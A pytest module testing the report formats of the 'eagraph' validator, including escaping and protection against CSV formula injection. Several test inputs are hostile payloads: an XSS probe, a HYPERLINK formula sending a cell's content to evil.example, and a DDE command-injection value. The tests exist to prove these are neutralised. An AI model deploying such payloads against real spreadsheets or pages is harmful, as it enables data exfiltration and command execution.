"""Reporters: one fixed list of findings in every format, against reviewed snapshots.

The snapshots in tests/data/reports/ were checked by eye; after a deliberate change to a format,
regenerate them with ``EAGRAPH_UPDATE_SNAPSHOTS=1 pytest tests/test_reporters.py`` and review the diff.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import xml.etree.ElementTree as ET
from pathlib import Path

import jsonschema
import pytest

from eagraph.findings import Finding, RuleInfo, Severity
from eagraph.reporters import BINARY_FORMATS, FORMATS, ReportContext, relocate, render
from eagraph.reporters.github import escape_data, escape_property
from eagraph.reporters.markdown import cell
from eagraph.workspace import Location

from helpers import REFERENCE, REPO

SNAPSHOTS = REPO / "tests" / "data" / "reports"
SARIF_SCHEMA = REFERENCE / "sarif" / "sarif-schema-2.1.0.json"
EX = "https://example.org/id/"
DCT = "http://purl.org/dc/terms/"
TRICKY = 'Title "A|B, C: D" is 100% wrong\nsee <script>alert(1)</script> — café Ærø 名前'

RULES = {
    "EAG012": RuleInfo("EAG012", "service-title-language", Severity.ERROR,
                       "A public service has a title in Dutch and in French.",
                       help="Checks that every `cpsv:PublicService` has a `dct:title` tagged `@nl` and one "
                            "tagged `@fr`.\n\n**Fails:** `dct:title \"Kinderbijslag\"@nl` alone.\n\n"
                            "**Passes:** `dct:title \"Kinderbijslag\"@nl, \"Allocations familiales\"@fr`.",
                       since="0.1.0"),
    "EAG031": RuleInfo("EAG031", "title-not-empty", Severity.WARNING, "A title is not blank."),
    "EAG040": RuleInfo("EAG040", "annual-cases-known", Severity.INFO,
                       "A public service states how many cases it handles a year.",
                       help="Set `eag:annualCases` so that analyses can rank by impact."),
    "only-once-violation": RuleInfo("only-once-violation", "only-once-violation", Severity.WARNING,
                                    "The applicant supplies evidence that an authentic source already holds."),
    # EAG020 is deliberately missing: reporters must cope with codes they know nothing about.
}

FINDINGS = [
    # An error where the subject is defined, with messages in three languages.
    Finding("EAG012", Severity.ERROR, EX + "service/child-benefit",
            {"en": "service has no French title", "nl": "dienst heeft geen Franse titel",
             "fr": "le service n'a pas de titre français"},
            path=DCT + "title", location=Location("authorities/fin.ttl", 42, 5)),
    # An error whose offending statement is in another file than the subject's definition.
    Finding("EAG012", Severity.ERROR, EX + "service/tax-return",
            {"en": "service has no French title", "nl": "dienst heeft geen Franse titel"},
            path=DCT + "title", value='"Belastingaangifte"@nl',
            location=Location("authorities/fin.ttl", 10, 1), statement=Location("services/tax.ttl", 7, 3)),
    # A warning without any location, of a code the context has no RuleInfo for.
    Finding("EAG020", Severity.WARNING, "_:b0", {"en": "blank node has no identifier"}),
    # A warning with every character that needs escaping somewhere, in a file name that needs one too.
    Finding("EAG031", Severity.WARNING, EX + "service/c,afé|1",
            {"en": TRICKY, "fr": "titre: « A|B »"}, path=DCT + "title", value='"A|B, C: D"@en',
            location=Location("services/sécurité sociale.ttl", 3, 1)),
    # Info: not a failure anywhere.
    Finding("EAG040", Severity.INFO, EX + "service/parking-card",
            {"en": "annual cases unknown", "nl": "jaarlijkse gevallen onbekend", "fr": "nombre de cas inconnu"},
            location=Location("services/mobility.ttl", 12, 1)),
    # Analysis findings: related IRIs and a score; the lower score comes first in the files.
    Finding("only-once-violation", Severity.WARNING, EX + "service/study-grant",
            {"en": "the applicant supplies a household composition that the National Register holds"},
            related=(EX + "evidence/household", EX + "concept/household", EX + "source/national-register"),
            score=0.5, location=Location("services/education.ttl", 5, 1), source="analysis"),
    Finding("only-once-violation", Severity.WARNING, EX + "service/social-tariff",
            {"en": "the applicant supplies an income certificate that the tax administration holds",
             "nl": "de aanvrager levert een inkomensattest dat de fiscus al heeft"},
            related=(EX + "evidence/income", EX + "source/tax-records"),
            score=0.875, location=Location("services/energy.ttl", 20, 1), source="analysis"),
]

CONTEXT = ReportContext(tool_version="1.2.3", rules=RULES, root=Path("/srv/eagraph/model"))
#: The formats snapshots hold as text; xlsx (a zip with its date) is read back in test_xlsx.py.
TEXT_FORMATS = [fmt for fmt in FORMATS if fmt not in BINARY_FORMATS]
CASES = [(fmt, findings) for fmt in TEXT_FORMATS for findings in ("findings", "empty")]


def rendered(fmt: str, findings=FINDINGS, context: ReportContext = CONTEXT) -> str:
    return render(fmt, findings, context)


# Snapshots --------------------------------------------------------------------------------
@pytest.mark.parametrize(("fmt", "case"), CASES, ids=[f"{f}-{c}" for f, c in CASES])
def test_snapshot(fmt, case):
    actual = rendered(fmt, FINDINGS if case == "findings" else [])
    expected_file = SNAPSHOTS / (f"{fmt}.expected" if case == "findings" else f"{fmt}-empty.expected")
    if os.environ.get("EAGRAPH_UPDATE_SNAPSHOTS") == "1":
        expected_file.parent.mkdir(parents=True, exist_ok=True)
        expected_file.write_text(actual, encoding="utf-8", newline="")
    assert actual == expected_file.read_bytes().decode("utf-8")


def test_output_does_not_depend_on_input_order():
    for fmt in TEXT_FORMATS:
        assert rendered(fmt, list(reversed(FINDINGS))) == rendered(fmt)


def test_unknown_format_names_the_formats():
    with pytest.raises(ValueError) as raised:
        render("nope", FINDINGS, CONTEXT)
    assert "'nope'" in str(raised.value)
    for fmt in FORMATS:
        assert fmt in str(raised.value)


# text -------------------------------------------------------------------------------------
def test_text_is_one_compiler_line_per_finding_and_a_summary():
    lines = rendered("text").splitlines()
    assert lines[0] == "authorities/fin.ttl:42:5: error EAG012 service has no French title"
    # The statement's place, not the subject's definition.
    assert "services/tax.ttl:7:3: error EAG012 service has no French title" in lines
    assert "_:b0: warning EAG020 blank node has no identifier" in lines
    assert lines[-1] == "2 errors, 4 warnings, 1 info in 6 files"
    unindented = [line for line in lines[:-2] if not line.startswith(" ")]
    assert len(unindented) == len(FINDINGS)
    assert "    related: " + " ".join(FINDINGS[-1].related) in lines
    assert rendered("text", []) == "no findings\n"


def test_text_summary_singular():
    one = [FINDINGS[0], FINDINGS[4]]
    assert rendered("text", one).splitlines()[-1] == "1 error, 0 warnings, 1 info in 2 files"
    assert rendered("text", [FINDINGS[2]]).splitlines()[-1] == "0 errors, 1 warning, 0 info"


def test_summary_line_speaks_the_language_asked_for():
    """Under --language nl|fr the summary line is in that language too, not English."""
    from dataclasses import replace

    nl, fr = replace(CONTEXT, language="nl"), replace(CONTEXT, language="fr")
    assert rendered("text", context=nl).splitlines()[-1] == "2 fouten, 4 waarschuwingen, 1 melding in 6 bestanden"
    assert rendered("text", context=fr).splitlines()[-1] == "2 erreurs, 4 avertissements, 1 info dans 6 fichiers"
    assert rendered("text", [FINDINGS[2]], nl).splitlines()[-1] == "0 fouten, 1 waarschuwing, 0 meldingen"
    assert rendered("text", [], nl) == "geen bevindingen\n" and rendered("text", [], fr) == "aucun constat\n"
    assert rendered("md", context=nl).startswith("## eagraph validate: 2 fouten, 4 waarschuwingen")


def test_text_language_falls_back_to_english():
    lines = render("text", FINDINGS, ReportContext("1.2.3", RULES, language="fr")).splitlines()
    assert lines[0].endswith("error EAG012 le service n'a pas de titre français")
    assert "services/tax.ttl:7:3: error EAG012 service has no French title" in lines  # no fr: en


def test_text_style_colours_the_severity_word_only():
    from eagraph.reporters import render_text

    styled = render_text([FINDINGS[0]], CONTEXT, style=lambda word, severity: f"[{severity.name}]{word}[/]")
    assert styled.splitlines()[0] == "authorities/fin.ttl:42:5: [ERROR]error[/] EAG012 service has no French title"


# json -------------------------------------------------------------------------------------
def test_json_keeps_the_findings_contract():
    document = json.loads(rendered("json"))
    assert set(document) == {"findings", "summary", "tool"}
    assert document["summary"] == {"error": 2, "warning": 4, "info": 1}
    assert document["tool"] == {"name": "eagraph", "version": "1.2.3"}
    assert len(document["findings"]) == len(FINDINGS)
    by_subject = {f.subject: f for f in FINDINGS}
    for item in document["findings"]:
        assert item == by_subject[item["subject"]].to_dict()
    assert json.loads(rendered("json", [])) == {"findings": [], "summary": {"error": 0, "warning": 0, "info": 0},
                                                 "tool": {"name": "eagraph", "version": "1.2.3"}}
    assert "Ærø" in rendered("json")  # ensure_ascii off


# junit ------------------------------------------------------------------------------------
def test_junit_counts_per_suite():
    root = ET.fromstring(rendered("junit"))
    assert root.tag == "testsuites" and root.get("name") == "eagraph validate"
    assert root.get("tests") == str(len(FINDINGS))
    assert root.get("failures") == str(sum(f.severity >= Severity.WARNING for f in FINDINGS))
    expected: dict[str, list[Finding]] = {}
    for finding in FINDINGS:
        expected.setdefault(finding.where.file if finding.where else "model", []).append(finding)
    suites = {suite.get("name"): suite for suite in root.iter("testsuite")}
    assert set(suites) == set(expected)
    for name, suite in suites.items():
        cases = suite.findall("testcase")
        assert suite.get("tests") == str(len(cases)) == str(len(expected[name]))
        failures = [case for case in cases if case.find("failure") is not None]
        assert suite.get("failures") == str(len(failures))
        assert len(failures) == sum(f.severity >= Severity.WARNING for f in expected[name])
    info = suites["services/mobility.ttl"].find("testcase")
    assert info.find("failure") is None and "annual cases unknown" in info.find("system-out").text
    tricky = suites["services/sécurité sociale.ttl"].find("testcase/failure")
    assert tricky.get("message") == TRICKY and tricky.get("type") == "EAG031"
    located = suites["services/tax.ttl"].find("testcase")
    assert (located.get("file"), located.get("line")) == ("services/tax.ttl", "7")


def test_junit_empty_is_one_passing_test():
    root = ET.fromstring(rendered("junit", []))
    cases = list(root.iter("testcase"))
    assert [case.get("name") for case in cases] == ["eagraph validate: no findings"]
    assert root.get("tests") == "1" and root.get("failures") == "0" and not list(root.iter("failure"))


def test_junit_writes_no_characters_xml_forbids():
    bad = Finding("EAG031", Severity.ERROR, EX + "x", {"en": "bell \x07 here"}, location=Location("a.ttl", 1))
    assert ET.fromstring(rendered("junit", [bad])).find(".//failure").get("message") == "bell \ufffd here"


# sarif ------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def sarif_validator():
    schema = json.loads(SARIF_SCHEMA.read_text(encoding="utf-8"))
    jsonschema.Draft7Validator.check_schema(schema)
    return jsonschema.Draft7Validator(schema, format_checker=jsonschema.Draft7Validator.FORMAT_CHECKER)


@pytest.mark.parametrize("findings", [FINDINGS, []], ids=["findings", "empty"])
def test_sarif_is_valid_against_the_schema(sarif_validator, findings):
    document = json.loads(rendered("sarif", findings))
    errors = sorted(sarif_validator.iter_errors(document), key=lambda e: list(e.absolute_path))
    assert not errors, "\n".join(f"{list(e.absolute_path)}: {e.message}" for e in errors)


def test_sarif_rules_results_and_locations():
    run = json.loads(rendered("sarif"))["runs"][0]
    rules = run["tool"]["driver"]["rules"]
    assert [r["id"] for r in rules] == ["EAG012", "EAG020", "EAG031", "EAG040", "only-once-violation"]
    assert rules[0]["help"]["markdown"] == RULES["EAG012"].help
    assert rules[0]["fullDescription"]["text"] == RULES["EAG012"].help.split("\n\n")[0]
    assert rules[0]["defaultConfiguration"] == {"level": "error"}
    assert rules[1] == {"id": "EAG020"}  # unknown to the context: the id alone
    assert run["originalUriBaseIds"] == {"MODELROOT": {"uri": "file:///srv/eagraph/model/"}}
    results = run["results"]
    assert len(results) == len(FINDINGS)
    for result in results:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
    levels = {r["ruleId"]: r["level"] for r in results}
    assert levels["EAG040"] == "note" and levels["EAG012"] == "error" and levels["EAG031"] == "warning"
    moved = next(r for r in results if r["properties"]["subject"].endswith("tax-return"))
    assert moved["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "services/tax.ttl"
    assert moved["locations"][0]["physicalLocation"]["region"] == {"startLine": 7, "startColumn": 3}
    assert moved["relatedLocations"][0]["physicalLocation"]["region"]["startLine"] == 10
    unplaced = next(r for r in results if r["ruleId"] == "EAG020")
    assert unplaced["locations"] == [{"logicalLocations": [{"fullyQualifiedName": "_:b0", "kind": "object"}]}]
    encoded = next(r for r in results if r["ruleId"] == "EAG031")
    assert encoded["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == \
        "services/s%C3%A9curit%C3%A9%20sociale.ttl"
    fingerprints = {r["partialFingerprints"]["eagraph/v1"] for r in results}
    assert hashlib.sha256("EAG020|_:b0||".encode()).hexdigest() == unplaced["partialFingerprints"]["eagraph/v1"]
    assert len(fingerprints) == len(FINDINGS)
    assert "originalUriBaseIds" not in json.loads(render("sarif", FINDINGS, ReportContext("1", RULES)))["runs"][0]


# github -----------------------------------------------------------------------------------
def test_github_escaping():
    assert escape_data("a%b\r\nc:d,e") == "a%25b%0D%0Ac:d,e"
    assert escape_property("a%b\r\nc:d,e") == "a%25b%0D%0Ac%3Ad%2Ce"
    lines = rendered("github").splitlines()
    assert len(lines) == len(FINDINGS)
    tricky = next(line for line in lines if "title=EAG031" in line)
    assert tricky == ("::warning file=services/sécurité sociale.ttl,line=3,col=1,title=EAG031::"
                      'Title "A|B, C: D" is 100%25 wrong%0Asee <script>alert(1)</script> — café Ærø 名前')
    assert "::notice file=services/mobility.ttl,line=12,col=1,title=EAG040::annual cases unknown" in lines
    assert "::warning title=EAG020::_:b0: blank node has no identifier" in lines
    assert rendered("github", []) == ""


def test_github_escapes_properties():
    odd = Finding("X:1,2", Severity.ERROR, EX + "s", {"en": "m"}, location=Location("a,b:c%.ttl", 1, 2))
    assert rendered("github", [odd]) == "::error file=a%2Cb%3Ac%25.ttl,line=1,col=2,title=X%3A1%2C2::m\n"


# md ---------------------------------------------------------------------------------------
def test_markdown_groups_by_severity_then_code():
    text = rendered("md")
    assert text.startswith("## eagraph validate: 2 errors, 4 warnings, 1 info in 6 files\n")
    headings = [line for line in text.splitlines() if line.startswith("###")]
    assert headings == ["### Errors", "#### EAG012 service-title-language (2)",
                        "### Warnings", "#### EAG020 (1)", "#### EAG031 title-not-empty (1)",
                        "#### only-once-violation (2)", "### Info",
                        "#### EAG040 annual-cases-known (1)"]
    # Ranked by score within the group, not by place.
    assert text.index("service/social-tariff") < text.index("service/study-grant")


def test_markdown_escapes_cells():
    assert cell("a|b\nc <script>") == "a\\|b<br>c &lt;script&gt;"
    row = next(line for line in rendered("md").splitlines() if "EAG031" not in line and "c,af" in line)
    assert row.count(" | ") == 2  # three cells: no | from the message or subject splits one
    assert "<script>" not in rendered("md")
    assert rendered("md", []) == "## eagraph validate\n\nNo findings.\n"


# csv --------------------------------------------------------------------------------------
def test_csv_parses_back():
    rows = list(csv.DictReader(io.StringIO(rendered("csv"), newline="")))
    assert len(rows) == len(FINDINGS)
    assert list(rows[0]) == ["severity", "code", "file", "line", "column", "subject", "path", "value", "score",
                             "message", "related"]
    tricky = next(row for row in rows if row["code"] == "EAG031")
    assert tricky["message"] == TRICKY and tricky["value"] == '"A|B, C: D"@en'
    assert (tricky["file"], tricky["line"], tricky["column"]) == ("services/sécurité sociale.ttl", "3", "1")
    scored = next(row for row in rows if row["score"] == "0.875")
    assert scored["related"].split(" ") == list(FINDINGS[-1].related)
    unplaced = next(row for row in rows if row["code"] == "EAG020")
    assert unplaced["file"] == unplaced["line"] == ""
    assert "\r" not in rendered("csv")
    assert rendered("csv", []) == ",".join(rows[0]) + "\n"


# paths ------------------------------------------------------------------------------------
def test_relocate_prefixes_every_file_for_ci():
    moved = relocate(FINDINGS, "models")
    assert moved[1].location == Location("models/authorities/fin.ttl", 10, 1)
    assert moved[1].statement == Location("models/services/tax.ttl", 7, 3)
    assert moved[2].location is None and moved[2].statement is None
    assert rendered("text", moved).splitlines()[0].startswith("models/authorities/fin.ttl:42:5: error EAG012")
    assert relocate(FINDINGS, "") == FINDINGS


def test_csv_cells_cannot_become_formulas():
    """A title or message like '=HYPERLINK(…)' opens as text, not as a formula, in a spreadsheet."""
    hostile = [Finding("EAG031", Severity.WARNING, EX + "service/x",
                       {"en": '=HYPERLINK("http://evil.example/?"&A1,"click")'}, path=DCT + "title",
                       value="+cmd|' /C calc'!A0", location=Location("@evil.ttl", 1, 1), score=-0.5)]
    row = next(csv.DictReader(io.StringIO(rendered("csv", hostile), newline="")))
    assert row["message"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["value"] == "'+cmd|' /C calc'!A0"
    assert row["file"] == "'@evil.ttl"
    assert row["score"] == "-0.5"  # a plain number stays a number


def test_safe_cell_neutralises_formula_starts_but_not_numbers():
    from eagraph.reporters.spreadsheet import safe_cell

    for text in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-A1", "-", "+", "=", "-1e", "--1"):
        assert safe_cell(text) == "'" + text, text
    for text in ("-1", "-0.25", "+3", "-2e-3", "-.5", "1", "plain", "", "a=b", "'=1"):
        assert safe_cell(text) == text, text
    assert safe_cell(None) == "" and safe_cell(-3) == "-3"


def test_files_that_cannot_be_read_are_findings_every_format_can_show():
    """A syntax error at its line, with the offending line and a caret in text; an unreadable
    folder as a whole (line 0): no line in SARIF, GitHub or JUnit, which would point nowhere."""
    from eagraph.reporters import READING_RULES, problem_findings
    from eagraph.workspace import SourceProblem
    from eagraph.workspace.errors import UNREADABLE

    findings = relocate(problem_findings([
        SourceProblem("a.ttl", 3, 9, "expected '.'", "ex:s ex:p ex:o"),
        SourceProblem("private/", 0, 0, "cannot read the folder: Permission denied", code=UNREADABLE)]), "models")
    context = ReportContext(tool_version="1.0", rules=READING_RULES)
    assert render("text", findings, context).splitlines()[:4] == [
        "models/a.ttl:3:9: error EAG901 expected '.'", "    ex:s ex:p ex:o", "            ^",
        "models/private/: error EAG902 cannot read the folder: Permission denied"]
    results = json.loads(render("sarif", findings, context))["runs"][0]["results"]
    assert [r["locations"][0]["physicalLocation"].get("region") for r in results] == [
        {"startLine": 3, "startColumn": 9}, None]
    assert render("github", findings, context).splitlines()[1] == (
        "::error file=models/private/,title=EAG902::cannot read the folder: Permission denied")
    cases = ET.fromstring(render("junit", findings, context)).findall(".//testcase")
    assert [(c.get("file"), c.get("line")) for c in cases] == [("models/a.ttl", "3"), ("models/private/", None)]
    assert "| `models/private/` |" in render("md", findings, context)
